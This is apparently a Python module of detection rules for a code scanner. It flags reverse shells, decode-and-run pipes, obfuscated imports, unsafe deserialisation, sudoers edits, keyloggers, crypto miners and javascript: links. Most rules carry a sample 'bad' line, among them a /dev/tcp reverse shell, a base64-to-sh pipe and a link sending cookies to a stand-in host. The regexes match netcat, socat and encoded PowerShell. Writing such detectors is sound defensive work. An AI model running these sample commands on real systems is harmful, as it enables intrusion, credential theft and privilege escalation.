"""Code that takes more than it says: shells for others, hidden code, privileges."""

from __future__ import annotations

import re

from asf_core.domain.findings import FindingCode, Place, Severity
from asf_core.quality.scan.kinds import COMMANDS, Kind
from asf_core.quality.scan.model import ACTIONS, ORDERS, Hit, TextRule, lowered
from asf_core.quality.scan.rules.common import scan_rule

_INFO, _LOW, _MEDIUM, _HIGH, _CRITICAL = Severity
_UNKNOWN = FindingCode.UNKNOWN

REVERSE_SHELL = scan_rule(
    id="code/reverse-shell",
    severity=_CRITICAL,
    title="gives a shell to somebody else",
    code=_UNKNOWN,
    why="Whoever waits at the other end works on the machine as its user.",
    remedy="Remove the skill from the registry, and look for where it was run.",
    bad="bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    good="ssh build.example.invalid",
    source="MITRE ATT&CK T1059, command and scripting interpreter",
)
DECODE_RUN = scan_rule(
    id="code/decode-run",
    severity=_HIGH,
    title="runs what it decodes",
    code=_UNKNOWN,
    why="Code that is kept encoded is kept from being read.",
    remedy="Write the code out.",
    bad="echo aGVsbG8K | base64 -d | sh",
    good="echo aGVsbG8K | base64 -d > note.txt",
    source="MITRE ATT&CK T1027, obfuscated files or information",
)
DYNAMIC = scan_rule(
    id="code/dynamic",
    severity=_LOW,
    title="runs text as code or as a shell command",
    code=_UNKNOWN,
    why="What ends up in the text is run with it: a file name with a semicolon is enough.",
    remedy="Call the program with a list of arguments, and parse data as data.",
    bad='const cp = require("child_process");\ncp.exec("ls " + process.argv[2]);',
    good='const cp = require("child_process");\ncp.execFile("ls", [process.argv[2]]);',
    source="CWE-78, OS command injection; CWE-95, eval injection",
)
SPLIT = scan_rule(
    id="code/put-together",
    severity=_MEDIUM,
    title="code put together from pieces",
    code=_UNKNOWN,
    why="Names spelt in pieces or numbers hide from every search for them.",
    remedy="Write the names out.",
    bad='getattr(__import__("o" + "s"), "sys" + "tem")("id")',
    good='import os\nos.listdir(".")',
    source="MITRE ATT&CK T1027, obfuscated files or information",
)
DESERIALISE = scan_rule(
    id="code/deserialise",
    severity=_LOW,
    title="loads data in a format that can run code",
    code=_UNKNOWN,
    why="Loading a pickle calls what the pickle names.",
    remedy="Use JSON, or load only files that the program has written itself.",
    bad="import pickle\npickle.load(open(path, 'rb'))",
    good="import json\njson.load(open(path))",
    source="CWE-502, deserialisation of untrusted data",
)
PRIVILEGE = scan_rule(
    id="code/privilege",
    severity=_MEDIUM,
    title="widens what its user may do",
    code=_UNKNOWN,
    why="Rights that are given for one task stay for all others.",
    remedy="Ask for the one command that needs the right.",
    bad='echo "me ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers',
    good="sudo systemctl restart web",
    source="MITRE ATT&CK T1548, abuse elevation control mechanism",
)
MINER = scan_rule(
    id="code/miner",
    severity=_HIGH,
    title="mines a currency",
    code=_UNKNOWN,
    why="It takes the machine's time and power for somebody else.",
    remedy="Remove it.",
    bad="./xmrig -o stratum+tcp://pool.example.invalid:3333",
    good="./render --threads 4",
    source="MITRE ATT&CK T1496, resource hijacking",
)


SURVEILLANCE = scan_rule(
    id="code/surveillance",
    severity=_MEDIUM,
    title="records what a person types or sees",
    code=_UNKNOWN,
    why="Keystrokes and screens hold passwords and what others have said in confidence.",
    remedy="Ask for the one input that is needed.",
    bad="from pynput import keyboard\nkeyboard.Listener(on_press=note).start()",
    good="name = input('Name: ')",
    source="MITRE ATT&CK T1056, input capture",
)


SCRIPT_LINK = scan_rule(
    id="code/script-link",
    severity=_HIGH,
    title="a link that runs code",
    code=_UNKNOWN,
    why="A page that renders the link runs what stands in it, with the reader's session.",
    remedy="Link to a page.",
    bad="[more](javascript:fetch('https://x.example.invalid/'+document.cookie))",
    good="[more](references/more.md)",
    source="CWE-79, cross-site scripting",
)


def _is_constant(hit: Hit) -> Severity | bool:
    """A constant command line cannot be changed by data."""
    rest = hit.file.data[hit.end : hit.end + 300].decode("utf-8", "ignore").split("\n", 1)[0]
    constant = re.match(r"\s*(?:\"[^\"{}$\\]*\"|'[^'{}$\\]*')\s*[,)]", rest)
    return _INFO if constant else True


def _decodes(hit: Hit) -> bool:
    """Unpacking alone hides nothing; the pipe must undo an encoding."""
    return re.search(r"base64|xxd|openssl|\brev\s*\||\btr\s+['\"]", hit.text) is not None


RULES: tuple[TextRule, ...] = (
    TextRule(
        REVERSE_SHELL,
        r"(?:ba|z|k|da)?sh\s+-i\s*[<>0-9&|]*\s*[>&|]+\s*/dev/(?:tcp|udp)/\S+|/dev/(?:tcp|udp)/[\w.${}-]+/[\w${}]+[^\n]*(?:\bsh\b|exec)|exec\s+\d+<>\s*/dev/tcp/\S+"
        r"|\b(?:nc|ncat|netcat)\b[^\n]*\s(?:-\w*[ec]\w*|--exec|--sh-exec)\s+[\"']?(?:/(?:usr/)?bin/)?(?:ba|z|da)?sh|mkfifo\s+\S+[^\n]*\|\s*(?:/bin/)?\w*sh\b[^\n]*\|\s*(?:nc|ncat|netcat|openssl)\b"
        r"|socket\.socket\([^\n]*\.connect\([^\n]*(?:dup2|subprocess|pty\.spawn)|\bos\.dup2\(\s*\w+\.fileno\(\)[^\n]*|\bpty\.spawn\(\s*[\"'](?:/bin/)?\w*sh"
        r"|\bsocket\([^\n]*\bexec\s*\(?[\"'{]?/bin/\w*sh|TCPSocket\.(?:open|new)[^\n]*\bexec\b[^\n]*sh\b|spawn\(\s*[\"'](?:/bin/)?(?:ba|z)?sh[\"'][^\n]*net\.(?:Socket|connect)|net\.(?:Socket|connect)\([^\n]*(?:spawn|exec)\w*\([^\n]*sh"
        r"|socat\b[^\n]*exec:[\"']?[^\n]*sh|new\s+net\.Socket\(\)[^\n]*child_process|fsockopen\([^\n]*(?:exec|proc_open|shell_exec)|System\.Net\.Sockets\.TCPClient[^\n]*",
        "It opens a shell for somebody else: {text!r}.",
        {**ACTIONS, Place.SCRIPT: _CRITICAL, Place.CODE: _HIGH},
    ),
    TextRule(
        DECODE_RUN,
        r"(?:base64\s+(?:-d|-D|--decode)|base64 -di|xxd\s+-r(?:\s+-p)?|openssl\s+(?:enc\s+)?(?:-?base64|enc)\s[^\n|]*-d|gunzip|gzip -dc?|rev|tr\s+[^\n|]+)\b[^\n|]*\|[^\n]*?(?:\bsudo\s+)?\b(?:(?:ba|z|da|k)?sh|python[\d.]*|perl|node|ruby)(?:\s+-\s*)?(?:[\s;&|)`'\"]|$)"
        r"|\b(?:eval|source|(?:ba|z)?sh\s+-c)\s+[\"']?(?:\$\(|`)[^\n]*(?:base64\s+(?:-d|-D|--decode)|xxd\s+-r|rot13)[^\n]*",
        "Decoded text is run: {text!r}.",
        ACTIONS,
        runs=True,
        judge=_decodes,
    ),
    TextRule(
        DECODE_RUN,
        r"\b(?:exec|eval|compile|Function|vm\.run\w*|os\.system|subprocess\.\w+|runInThisContext|execSync|instance_eval)\s*\([^\n]*(?:b64decode|b32decode|a85decode|atob\s*\(|Buffer\.from\([^\n]*base64|fromhex|unhexlify|codecs\.decode|rot_?13|zlib\.decompress|marshal\.loads|base64_decode|decode64|unescape\(|fromCharCode|gzinflate|str_rot13)[^\n]*"
        r"|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*\s-(?:e|en|enc|enco|encod\w*command)\s+[A-Za-z0-9+/=]{16,}|\bFromBase64String\([^\n]*(?:iex|Invoke-Expression|Assembly\]::Load)[^\n]*|\biex\b[^\n]*FromBase64String[^\n]*",
        "Decoded text is run: {text!r}.",
        ACTIONS,
    ),
    TextRule(
        SPLIT,
        r"getattr\s*\(\s*(?:__import__\s*\(|os\b|builtins\b|__builtins__\b)[^\n]*[\"']\s*\+\s*[\"'][^\n]*|__import__\s*\(\s*[\"'][a-z]+[\"']\s*\+[^\n]*|__import__\s*\(\s*[\"'](?:os|subprocess|socket|pty|ctypes)[\"']\s*\)\s*\.\s*\w+[^\n]*"
        r"|(?:chr\s*\(\s*\d+\s*\)\s*[+.,&]\s*){5,}[^\n]*|String\.fromCharCode\s*\((?:\s*\d+\s*,){8,}[^\n]*|(?:\\x[0-9a-f]{2}){12,}|(?:\[char\]\d+\s*\+\s*){4,}[^\n]*|\bprintf\s+[\"'](?:\\(?:x[0-9a-f]{2}|[0-7]{3})){4,}",
        "Code is put together from pieces: {text!r}.",
        {**lowered(ACTIONS), Place.CODE: _LOW, Place.INSTRUCTION: _LOW},
    ),
    TextRule(
        DYNAMIC,
        r"(?m)\b(?:os\.system|os\.popen|commands\.getoutput|subprocess\.getoutput|subprocess\.getstatusoutput)\s*\(",
        "Text is run as a shell command: {text!r}.",
        {
            **lowered(ACTIONS),
            Place.SCRIPT: _MEDIUM,
            Place.CODE: _LOW,
            Place.INSTRUCTION: _INFO,
            Place.STRING: _INFO,
        },
        kinds=frozenset({Kind.PYTHON}),
        judge=_is_constant,
        ignore_case=False,
    ),
    TextRule(
        DYNAMIC,
        r"\bshell\s*=\s*True\b",
        "A command line goes through a shell: {text!r}.",
        {**lowered(ACTIONS, 2), Place.SCRIPT: _LOW, Place.CODE: _INFO, Place.INSTRUCTION: _INFO},
        kinds=frozenset({Kind.PYTHON}),
        ignore_case=False,
    ),
    TextRule(
        DYNAMIC,
        r"\b(?:child_process|cp|childProcess|shelljs|shell)\.exec(?:Sync)?\s*\(|(?:^|[\s=(;,])(?:exec|execSync)\s*\(\s*[`\"']|require\s*\(\s*[\"'](?:node:)?child_process[\"']\s*\)\.exec(?:Sync)?\s*\(",
        "Text is run as a shell command: {text!r}.",
        {
            **lowered(ACTIONS),
            Place.SCRIPT: _MEDIUM,
            Place.CODE: _LOW,
            Place.INSTRUCTION: _INFO,
            Place.STRING: _INFO,
        },
        kinds=frozenset({Kind.JAVASCRIPT}),
        judge=_is_constant,
        ignore_case=False,
    ),
    TextRule(
        DYNAMIC,
        r"(?m)(?:^|[\s=(,;:])(?:eval|exec)\s*\(\s*[a-zA-Z_]|\bnew\s+Function\s*\(",
        "Text is run as code: {text!r}.",
        {
            **lowered(ACTIONS),
            Place.SCRIPT: _MEDIUM,
            Place.CODE: _LOW,
            Place.INSTRUCTION: _INFO,
            Place.STRING: _INFO,
        },
        kinds=frozenset({Kind.PYTHON, Kind.JAVASCRIPT}),
        judge=lambda hit: not re.search(r"(?:def|function|async|\.)\s*(?:eval|exec)\b", hit.line),
        ignore_case=False,
    ),
    TextRule(
        DYNAMIC,
        r"(?m)(?:^|[;&|]\s*)eval\s+[\"']?\$[\w{(]",
        "Text is run as a shell command: {text!r}.",
        {**lowered(ACTIONS), Place.SCRIPT: _MEDIUM, Place.CODE: _LOW, Place.INSTRUCTION: _INFO},
        kinds=COMMANDS,
        judge=lambda hit: (
            not re.search(
                r"ssh-agent|brew shellenv|direnv|pyenv|rbenv|starship|zoxide|conda|mise|fnm|opam|dircolors|dbus-launch|register-python-argcomplete|_COMPLETE",
                hit.line,
            )
        ),
    ),
    TextRule(
        DESERIALISE,
        r"\b(?:pickle|cPickle|dill|marshal|shelve|joblib)\.loads?\s*\(|\byaml\.(?:load|unsafe_load|full_load)\s*\(|\btorch\.load\s*\(|\bMarshal\.load\b|\bunserialize\s*\(",
        "Data is loaded in a way that can run code: {text!r}.",
        {**lowered(ACTIONS, 2), Place.SCRIPT: _LOW, Place.CODE: _INFO, Place.INSTRUCTION: _INFO},
        kinds=frozenset({Kind.PYTHON, Kind.CODE}),
        judge=lambda hit: not re.search(r"SafeLoader|weights_only\s*=\s*True", hit.line),
    ),
    TextRule(
        PRIVILEGE,
        r"\bNOPASSWD\b\s*:|>>?\s*/etc/sudoers\b|\bchmod\s+(?:-\w+\s+)*(?:[ug]*\+s\b|[2467][0-7]{3}\b)|\bsetcap\s+cap_\w+|\bchmod\s+(?:-R\s+|--recursive\s+)+(?:0?777|a\+rwx)\s+/(?:[\s`\"';]|$|etc|usr|var|home)|\busermod\b[^\n]*-aG\s+(?:sudo|wheel|root)\b|--privileged\b[^\n]*-v\s+/:/|-v\s+/:/\w*",
        "It widens what its user may do: {text!r}.",
        {**ACTIONS, Place.INSTRUCTION: _MEDIUM, Place.CODE: _LOW},
        runs=True,
        judge=lambda hit: (
            True if re.search(r"NOPASSWD|sudoers|setcap|\+s\b", hit.text) else _MEDIUM
        ),
    ),
    TextRule(
        SCRIPT_LINK,
        r"\]\(\s*<?\s*(?:javascript|vbscript):[^\n)]*|\]\(\s*<?\s*data:text/html[^\n)]*|(?:href|src)\s*=\s*[\"']?\s*(?:javascript|vbscript):[^\n\"'>]*",
        "A link runs code: {text!r}.",
        {**ORDERS, Place.CODE: _LOW},
        kinds=frozenset({Kind.MARKDOWN, Kind.TEXT}),
        judge=lambda hit: (
            _LOW if re.search(r"javascript:\s*(?:void|;|\)|$)", hit.text, re.IGNORECASE) else True
        ),
    ),
    TextRule(
        SURVEILLANCE,
        r"\bpynput\b[^\n]*\bkeyboard\b|\bkeyboard\.(?:Listener|on_press|hook)\s*\(|\bGetAsyncKeyState\b|\bSetWindowsHookEx\w*\b|\bCGEventTapCreate\b|\blogkeys\b|/dev/input/event\d",
        "It records what a person types: {text!r}.",
        {**lowered(ACTIONS), Place.CODE: _LOW, Place.INSTRUCTION: _LOW},
    ),
    TextRule(
        MINER,
        r"\bxmrig\b|stratum\+(?:tcp|ssl)://|\bminerd\b\s|\bcoinhive\b|\bnicehash\b[^\n]*-o\s",
        "It mines a currency: {text!r}.",
        {**ACTIONS, Place.INSTRUCTION: _MEDIUM, Place.DATA: _LOW},
    ),
)
